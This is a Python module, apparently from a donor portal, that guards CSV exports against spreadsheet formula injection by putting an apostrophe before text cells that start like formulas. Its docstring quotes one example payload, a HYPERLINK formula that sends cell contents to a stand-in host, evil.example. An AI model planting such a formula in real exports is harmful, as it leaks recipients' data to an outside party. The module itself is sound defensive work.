"""CSV cells that a spreadsheet will not run as formulas (issue 19, finding 2).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and,
in some versions, a tab or carriage return before one of them): a need titled
`=HYPERLINK("http://evil.example/?"&A1,"click")` would become a live link in every donor's
download. OWASP's rule: prefix such a text cell with `'`, which spreadsheets show as text. Numbers
are written as they are (a negative amount stays a number). Every CSV the portal writes goes
through `writer()` (or `safe_row` for writers of their own), so a new export is safe by default.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value, or for text starting like a formula, the text behind a `'`."""
    if value is None or isinstance(value, (bool, int, float, Decimal, date)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """csv.writer's interface; every row goes through safe_row."""

    def __init__(self, file, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **kwargs) -> SafeWriter:
    return SafeWriter(file, **kwargs)
